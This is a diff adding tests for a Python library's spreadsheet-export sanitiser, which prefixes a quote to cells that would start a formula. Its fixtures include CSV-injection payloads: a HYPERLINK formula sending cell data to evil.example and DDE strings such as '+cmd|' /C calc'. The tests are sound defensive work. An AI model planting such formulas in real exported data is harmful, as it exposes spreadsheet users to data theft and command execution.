@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import re
+
+import polars as pl
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from evidence.core.text import column_title, word_list
+from evidence.core.text import FORMULA_START, column_title, spreadsheet_frame, spreadsheet_text, word_list
 
 
 @pytest.mark.parametrize(
@@ -73,3 +76,58 @@ def test_the_unsafe_format_characters_are_every_format_character_but_the_joiners
         elif UNSAFE_FORMAT.fullmatch(char):
             # only the format characters of a Unicode newer than this Python's (Egyptian hieroglyph controls)
             assert 0x13439 <= code <= 0x1343F, hex(code)
+
+
+# ------------------------------------------------------------------------------ cells for spreadsheets
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?"&A1,"click")',
+            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+        ),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-1+1", "'-1+1"),
+        # numbers are numbers: negative, signed, decimal, with thousands or an exponent
+        ("-3", "-3"),
+        ("+1.5", "+1.5"),
+        ("-1,234.5", "-1,234.5"),
+        ("-2e-3", "-2e-3"),
+        ("Thailand", "Thailand"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_a_spreadsheet_shows_a_formula_from_data_as_text(text: str, cell: str) -> None:
+    assert spreadsheet_text(text) == cell
+
+
+def test_a_frame_for_a_spreadsheet_keeps_its_numbers_and_neutralises_its_texts() -> None:
+    frame = pl.DataFrame(
+        {
+            "country": ["=cmd|x", "Thailand", None, "-5"],
+            "@SUM(A1)": [-1, 2, 3, 4],
+            "label": pl.Series(["@x", "b", "c", "d"], dtype=pl.Categorical),
+            "value": [-1.5, 0.0, None, 2.0],
+        }
+    )
+    safe = spreadsheet_frame(frame)
+    assert safe.columns == ["country", "'@SUM(A1)", "label", "value"]
+    assert safe["country"].to_list() == ["'=cmd|x", "Thailand", None, "-5"]
+    assert safe["label"].cast(pl.String).to_list() == ["'@x", "b", "c", "d"]
+    assert safe["'@SUM(A1)"].to_list() == [-1, 2, 3, 4] and safe["value"].equals(frame["value"])
+    plain = frame.select("value").with_columns(text=pl.lit("-x").str.slice(1))
+    assert spreadsheet_frame(plain).write_csv() == plain.write_csv()  # nothing to do: the same bytes
+
+
+@given(st.text(max_size=12))
+def test_no_cell_starts_a_formula(text: str) -> None:
+    cell = spreadsheet_text(text)
+    assert not cell.startswith(FORMULA_START) or re.fullmatch(r"[+-][\d.,eE+-]*", cell)
+    assert cell in (text, "'" + text)
